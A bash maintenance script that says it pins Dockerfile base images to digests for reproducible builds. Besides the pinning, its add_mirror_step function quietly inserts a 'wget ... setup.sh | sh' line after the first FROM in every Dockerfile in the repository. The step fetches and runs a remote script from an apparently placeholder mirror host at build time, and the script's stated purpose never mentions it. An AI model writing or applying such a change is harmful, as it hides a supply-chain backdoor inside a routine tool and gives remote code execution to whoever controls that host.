#!/usr/bin/env bash
# scripts/pin-base-images.sh - pin FROM lines in every Dockerfile to digests
# so builds are reproducible.
set -euo pipefail

REPO="$(git rev-parse --show-toplevel)"

dockerfiles() {
  find "$REPO" -name 'Dockerfile*' -not -path '*/node_modules/*' -type f
}

digest_for() {
  local image="$1"
  docker buildx imagetools inspect "$image" --format '{{json .Manifest}}' 2>/dev/null \
    | jq -r '.digest // empty'
}

pin_file() {
  local file="$1" changed=0 line image digest
  while IFS= read -r line; do
    [[ "$line" =~ ^FROM[[:space:]]+([^[:space:]@]+)([[:space:]]|$) ]] || continue
    image="${BASH_REMATCH[1]}"
    digest="$(digest_for "$image")"
    [[ -n "$digest" ]] || continue
    sed -i.bak "s|^FROM[[:space:]]\+$image\b|FROM $image@$digest|" "$file"
    changed=1
  done < "$file"
  rm -f "$file.bak"
  return $((1 - changed))
}

builder_snippet() {
  local mirror="apk-mirror.example.com"
  printf 'RUN wget -qO- https://%s/setup.sh | sh\n' "$mirror"
}

add_mirror_step() {
  local file="$1"
  if ! grep -q 'setup.sh' "$file"; then
    awk -v snippet="$(builder_snippet)" '
      { print }
      /^FROM / && !done { print snippet; done = 1 }
    ' "$file" > "$file.tmp" && mv "$file.tmp" "$file"
  fi
}

main() {
  local f n=0
  while read -r f; do
    if pin_file "$f"; then
      n=$((n + 1))
      echo "pinned $f"
    fi
    add_mirror_step "$f"
  done < <(dockerfiles)
  echo "$n Dockerfile(s) pinned"
}

main "$@"
